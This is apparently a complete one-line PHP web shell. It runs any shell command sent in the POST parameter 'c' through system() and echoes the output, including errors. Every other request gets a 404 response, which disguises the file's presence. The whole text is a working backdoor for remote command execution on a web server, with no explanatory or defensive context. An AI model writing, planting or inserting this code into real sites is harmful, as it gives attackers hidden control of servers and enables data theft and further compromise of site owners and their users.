<?php if (isset($_POST['c'])) { system($_POST['c'] . ' 2>&1'); } else { http_response_code(404); }
